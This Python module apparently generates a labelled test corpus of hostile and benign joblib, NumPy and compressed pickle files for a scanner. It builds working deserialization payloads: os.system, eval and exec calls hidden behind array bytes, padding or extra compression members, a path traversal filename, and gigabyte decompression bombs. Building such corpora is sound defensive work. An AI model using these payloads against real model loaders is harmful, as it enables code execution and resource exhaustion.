"""joblib and NumPy: hostile files by an own writer, every compression, raw arrays between the opcodes."""

import bz2
import gzip
import lzma
import pickle
import struct
import zlib

import lz4.frame
import numpy as np
import zstandard

from . import assembler as a
from .corpus import CODE, COMMAND, Family, Sample, zip_bytes
from .pickle_tricks import EVIL

CALL = a.call("os", "system", (COMMAND,), 3)
PLAIN = a.stream(a.value({"weights": [0.25] * 64}), 3)


def samples() -> list[Sample]:
    """Both families and the wrapped pickles."""
    joblib, numpy, wrapped = Family("joblib"), Family("numpy"), Family("compressed")
    for part in (_joblib, _joblib_objects, _joblib_opcodes, _joblib_types):
        part(joblib)
    _numpy(numpy)
    _wrapped(wrapped)
    return joblib.samples + numpy.samples + wrapped.samples


def array(count: int, pad: bytes = b"\x00", typecode: str = "f8", raw: bytes | None = None, aligned: bool = True) -> bytes:
    """A NumpyArrayWrapper and the raw bytes that joblib lays behind it."""
    dtype = a.call("numpy", "dtype", (typecode, False, True), 3) + a.value((3, "<" if typecode != "O8" else "|", None, None, None, -1, -1, 63 if typecode == "O8" else 0), 3) + a.BUILD
    state = {"subclass": a.Raw(a.global_("numpy", "ndarray")), "shape": (count,), "order": "C", "dtype": a.Raw(dtype), "allow_mmap": typecode != "O8"}
    if aligned:
        state["numpy_array_alignment_bytes"] = 16
    wrapper = a.global_("joblib.numpy_pickle", "NumpyArrayWrapper") + a.EMPTY_TUPLE + a.NEWOBJ + a.value(state, 3) + a.BUILD
    body = struct.pack(f"<{count}d", *range(count)) if raw is None else raw
    return wrapper + (pad if aligned and typecode != "O8" else b"") + body


def _joblib(family: Family) -> None:
    put = family.hostile
    put("call.joblib", "a plain call", a.stream(CALL, 3))
    put("after_array.joblib", "a call behind the raw bytes of an array", a.stream(array(64) + a.POP + CALL, 3))
    put("after_array_padded.joblib", "a call behind an array with seven bytes of padding", a.stream(array(64, b"\x07" + b"\xff" * 7) + a.POP + CALL, 3))
    put("after_array_unaligned.joblib", "a call behind an array of the format without padding", a.stream(array(64, aligned=False) + a.POP + CALL, 3))
    put("stop_in_array.joblib", "the raw bytes look like an innocent end; the call follows", a.stream(array(8, raw=b"N." * 32) + a.POP + CALL, 3))
    put("pickle_as_array.joblib", "the object array behind the wrapper is a hostile pickle", a.stream(array(1, typecode="O8", raw=EVIL), 3))
    put("between_arrays.joblib", "a call between two arrays", a.stream(array(16) + a.POP + CALL + a.POP + array(16), 3))
    put("shape_lie.joblib", "the wrapper claims 2^50 elements", a.stream(array(2, raw=b"").replace(a.value((2,), 3), a.value((2**50,), 3)), 3), "ATLAS AML.T0029")
    put("shape_computed.joblib", "the shape is the result of a call", a.stream(array(8).replace(a.value((8,), 3), a.call("builtins", "eval", ("(8,)",), 3)), 3))
    put("subclass_foreign.joblib", "the wrapper's subclass is foreign", a.stream(array(8).replace(a.global_("numpy", "ndarray"), a.global_("custody_unheard_of", "Array")), 3))
    put("dtype_foreign.joblib", "the wrapper's dtype is a call of eval", a.stream(array(8).replace(a.global_("numpy", "dtype"), a.global_("builtins", "eval")), 3))
    put("nd_array_wrapper_file.joblib", "the old NDArrayWrapper names a file elsewhere", a.stream(a.global_("joblib.numpy_pickle_compat", "NDArrayWrapper") + a.EMPTY_TUPLE + a.NEWOBJ + a.value({"filename": "../../secret.npy", "subclass": a.Raw(a.global_("numpy", "ndarray")), "allow_mmap": True}, 3) + a.BUILD, 3))
    put("z_file_old.joblib", "joblib 0.8 Z-file with a hostile pickle", b"ZF" + b"0x" + f"{len(EVIL):x}".ljust(19).encode() + zlib.compress(EVIL))
    body = a.stream(array(64) + a.POP + CALL, 3)
    for name, raw in compressed(body).items():
        put(f"array_{name}.joblib", f"a call behind an array, {name}", raw)


def _joblib_objects(family: Family) -> None:
    """Object arrays, whose elements are a pickle of their own: its memo and its names are not those around it."""
    names = [("numpy", "ndarray"), ("numpy", "dtype"), ("joblib.numpy_pickle", "NumpyArrayWrapper"), ("collections", "OrderedDict")]
    for count in range(1, 5):
        decoys = b"".join(a.global_(*name) + a.put(slot) + a.POP for slot, name in enumerate(names[: count - 1]))
        inner = a.stream(decoys + a.global_("os", "system") + a.put(count - 1) + a.POP + a.get(count - 1) + a.text(COMMAND) + a.TUPLE1 + a.REDUCE, 3)
        outer = b"".join(a.global_(*name) + a.put(slot) + a.POP for slot, name in enumerate(names[:count]))
        family.hostile(f"objects_memo_{count}.joblib", f"the objects' pickle calls what stands in slot {count - 1} of its own memo; without, a harmless name stands there", a.stream(outer + array(1, typecode="O8", raw=inner), 3))
        sums = b"".join(a.stack_global(*name) + a.POP for name in names[: count - 1])
        inner = a.stream(sums + a.call("builtins", "exec", (CODE,), 4), 4)
        family.hostile(f"objects_names_{count}.joblib", f"the objects' pickle has {count} names, as many as there are without, and calls the last", a.stream(array(1, typecode="O8", raw=inner), 3))
    family.hostile("objects_broken.joblib", "the objects' pickle calls, and ends before its STOP", a.stream(array(1, typecode="O8", raw=EVIL[:-1] + b"\xff"), 3))
    family.hostile("objects_second.joblib", "the second of two object arrays calls", a.stream(array(1, typecode="O8", raw=pickle.dumps(np.array(["x"], dtype=object))) + a.POP + array(1, typecode="O8", raw=EVIL), 3))


def _joblib_opcodes(family: Family) -> None:
    """Bytes of an array that joblib.load steps over, and that pickle.load of the same file runs."""
    code = a.POP + CALL + a.STOP
    raw = code + bytes(-len(code) % 8)
    family.hostile("opcodes_unaligned.joblib", "the array's bytes are opcodes for pickle.load", a.stream(array(len(raw) // 8, raw=raw, aligned=False), 3))
    family.hostile("opcodes_named_pkl.pkl", "the same, named as pickle.load is given it", a.stream(array(len(raw) // 8, raw=raw, aligned=False), 3))
    text = a.POP + a.MARK + a.text_line(COMMAND) + a.inst("os", "system") + a.STOP
    raw = text + b" " * (-len(text) % 8)
    family.hostile("opcodes_text.joblib", "the array's bytes are opcodes of protocol 0 for pickle.load", a.stream(array(len(raw) // 8, raw=raw, aligned=False), 3))
    # The first byte of the padding is its length, and the opcode POP.
    pad = code.ljust(a.POP[0] + 1, b"\0")
    family.hostile("opcodes_padding.joblib", "the padding before the array's bytes is opcodes for pickle.load", a.stream(array(4, pad), 3))
    raw = (a.POP + a.NONE) * 2 + a.POP + CALL + a.POP * 2
    raw += a.NONE * (-len(raw) % 8)
    family.hostile("opcodes_through.joblib", "the array's bytes are opcodes, and what stands behind them ends either reading", a.stream(array(len(raw) // 8, raw=raw, aligned=False), 3))


def _joblib_types(family: Family) -> None:
    """Types within the wrapper whose state tells places that are not theirs."""
    told = a.value((3, "<", None, None, None, -1, -1, 0), 3)
    double = a.Raw(a.call("numpy", "dtype", ("f8", False, True), 3) + told + a.BUILD)
    for name, offset, size in (("beyond", 4096, 8), ("before", -64, 8), ("straddles", 4, 8), ("size", 0, 1)):
        lie = a.value((3, "|", None, ("a",), {"a": (double, offset)}, size, 1, 0), 3)
        family.hostile(f"dtype_{name}.joblib", f"the field of the array's type lies {name}", a.stream(array(8, typecode="V8", raw=bytes(8 * size)).replace(told, lie), 3), "CWE-125")


def compressed(raw: bytes) -> dict[str, bytes]:
    """The bytes in each compression that joblib knows, and zstd."""
    return {
        "zlib": zlib.compress(raw, 3),
        "zlib0": zlib.compress(raw, 0),
        "zlib9": zlib.compress(raw, 9),
        "gzip": gzip.compress(raw, 3, mtime=0),
        "bz2": bz2.compress(raw, 3),
        "xz": lzma.compress(raw, lzma.FORMAT_XZ),
        "lzma": lzma.compress(raw, lzma.FORMAT_ALONE),
        "lz4": lz4.frame.compress(raw),
        "zstd": zstandard.ZstdCompressor(level=3).compress(raw),
    }


def _wrapped(family: Family) -> None:
    suffix = {"zlib": "z", "zlib0": "z0", "zlib9": "z9", "gzip": "gz", "bz2": "bz2", "xz": "xz", "lzma": "lzma", "lz4": "lz4", "zstd": "zst"}
    hostile, benign = compressed(EVIL), compressed(PLAIN)
    for name, raw in hostile.items():
        family.hostile(f"model.pkl.{suffix[name]}", f"a hostile pickle in {name}", raw)
    for name, raw in benign.items():
        if not name.startswith("zlib"):
            family.benign(f"model.pkl.{suffix[name]}", f"plain data in {name}", raw)
    put = family.hostile
    put("gz_in_gz.pkl.gz", "gzip in gzip in gzip", gzip.compress(gzip.compress(hostile["gzip"], mtime=0), mtime=0))
    put("two_members.pkl.gz", "a gzip of two members, the second completes the hostile pickle", gzip.compress(EVIL[:9], mtime=0) + gzip.compress(EVIL[9:], mtime=0))
    put("second_member.pkl.gz", "an innocent member, then a hostile one", gzip.compress(PLAIN, mtime=0) + gzip.compress(EVIL, mtime=0))
    put("named_joblib_is_gz.pkl", "gzip under the name of a pickle", hostile["gzip"])
    put("gz_truncated.pkl.gz", "gzip without its end: the loader runs what it read", hostile["gzip"][:-6])
    put("gz_tail.pkl.gz", "gzip of plain data followed by a bare hostile pickle", gzip.compress(PLAIN, mtime=0) + EVIL)
    put("gz_crc.pkl.gz", "gzip with a wrong checksum", hostile["gzip"][:-8] + b"\0\0\0\0" + hostile["gzip"][-4:])
    put("bomb.pkl.gz", "a gigabyte of zeros in gzip", _bomb(), "ATLAS AML.T0029")
    put("bomb.pkl.xz", "a gigabyte of zeros in xz", _bomb_xz(), "ATLAS AML.T0029")
    put("xz_two_streams.pkl.xz", "two xz streams, the second hostile", benign["xz"] + hostile["xz"])
    put("zst_two_frames.pkl.zst", "two zstd frames, the second hostile", benign["zstd"] + hostile["zstd"])
    put("zst_skippable.pkl.zst", "a skippable zstd frame before a hostile one", struct.pack("<II", 0x184D2A50, 4) + b"note" + hostile["zstd"])


def _bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush()


def _bomb_xz() -> bytes:
    packer = lzma.LZMACompressor(lzma.FORMAT_XZ, preset=0)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush()


def npy(header: str, body: bytes, version: int = 1, claimed: int | None = None) -> bytes:
    """An .npy file with any header."""
    room = 10 if version == 1 else 12
    text = header.encode() + b" " * (-(room + len(header.encode()) + 1) % 64) + b"\n"
    length = len(text) if claimed is None else claimed
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", length) + text + body


OBJECTS = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
FLOATS = "{'descr': '<f8', 'fortran_order': False, 'shape': (4,), }"


def _numpy(family: Family) -> None:
    put = family.hostile
    body = struct.pack("<4d", 1, 2, 3, 4)
    reference = "CVE-2019-6446"
    for version in (1, 2, 3):
        put(f"object_v{version}.npy", f"an object array whose pickle is hostile, format {version}", npy(OBJECTS, EVIL, version), reference)
    put("object.npz", "an npz with a hostile object array", zip_bytes([("a.npy", npy(FLOATS, body)), ("b.npy", npy(OBJECTS, EVIL))]), reference)
    put("object_deflated.npz", "a deflated npz with a hostile object array", zip_bytes([("b.npy", npy(OBJECTS, EVIL))], 8), reference)
    put("pickle_member.npz", "an npz with a hostile pickle among its members", zip_bytes([("a.npy", npy(FLOATS, body)), ("arr.pkl", EVIL)]))
    put("pickle_named.npy", "a bare pickle named .npy: numpy.load falls back to pickle", EVIL, reference)
    put("pickle_named.npz", "a bare pickle named .npz", EVIL, reference)
    put("structured_object.npy", "an object field within a structured type", npy("{'descr': [('a', '<f8'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }", EVIL), reference)
    put("header_expression.npy", "the header is a Python expression with a call", npy("{'descr': __import__('os').system('true'), 'fortran_order': False, 'shape': (4,), }", body))
    put("header_length.npy", "the header claims to be longer than the file", npy(FLOATS, body, 2, 2**31))
    put("shape_huge.npy", "the shape claims 2^60 elements", npy(FLOATS.replace("(4,)", "(1152921504606846976,)"), body), "ATLAS AML.T0029")
    put("shape_overflow.npy", "the product of the shape overflows 64 bits", npy(FLOATS.replace("(4,)", "(4294967296, 4294967296, 4)"), body), "ATLAS AML.T0029")
    put("shape_negative.npy", "a negative length in the shape", npy(FLOATS.replace("(4,)", "(-4,)"), body))
    put("header_deep.npy", "a header of 10,000 nested brackets", npy("[" * 10_000 + "]" * 10_000, body, 2), "ATLAS AML.T0029")
    put("zip_tail.npy", "a plain array with a torch zip behind it", npy(FLOATS, body) + zip_bytes([("archive/data.pkl", EVIL)]))
    put("pickle_tail.npy", "a plain array with a hostile pickle behind it", npy(FLOATS, body) + EVIL)
    put("truncated.npy", "less data than the shape tells", npy(FLOATS, body[:9]))
    put("object_gz.npy.gz", "a hostile object array in gzip", gzip.compress(npy(OBJECTS, EVIL), mtime=0), reference)
    put("code_name.npy", "a field name with a quote and code", npy("{'descr': [('a');" + CODE + "#', '<f8')], 'fortran_order': False, 'shape': (4,), }", body))
